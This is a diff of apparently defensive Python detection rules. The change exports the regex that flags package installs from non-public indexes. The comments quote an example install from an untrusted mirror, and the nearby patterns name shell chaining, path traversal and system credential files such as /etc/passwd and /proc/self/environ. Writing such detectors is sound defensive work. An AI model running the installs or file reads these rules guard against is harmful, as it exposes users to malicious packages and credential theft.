@@ -36,13 +36,14 @@ _CHAINED = re.compile(r"[;|`]|&&|\$\(")
 # Packages installed from an index of the text's own choosing, not the public one: "pip install -q
 # helpers --index-url http://pypi.mirror-x.dev/simple" (stop 40). An honest hook runs the project's
 # own commands ("npm test && npm run lint") and installs from the public registries.
-_FOREIGN_INDEX = re.compile(
+#: (the rules read the same shape in a sentence that has the agent run it: stop 42)
+FOREIGN_INDEX = (
     r"\b(?:pip3?|uv\s+pip|npm|pnpm|yarn|gem|poetry)\s+(?:install|i|add)\b[^;|\n]{0,200}?"
     r"(?:--(?:extra-)?index-url|--registry|--source|(?<!\w)-i)\s*[= ]\s*https?://"
     r"(?!(?:pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|rubygems\.org)[/\s]|"
-    r"(?:pypi\.org|registry\.npmjs\.org)$)",
-    re.IGNORECASE,
+    r"(?:pypi\.org|registry\.npmjs\.org)$)"
 )
+_FOREIGN_INDEX = re.compile(FOREIGN_INDEX, re.IGNORECASE)
 _CLIMB = re.compile(r"(?:\.\.[/\\]){2,}")
 _SYSTEM_FILE = re.compile(
     r"(?:^|[/\\])etc[/\\](?:passwd|shadow|sudoers|master\.passwd)\b|/proc/self/environ\b",
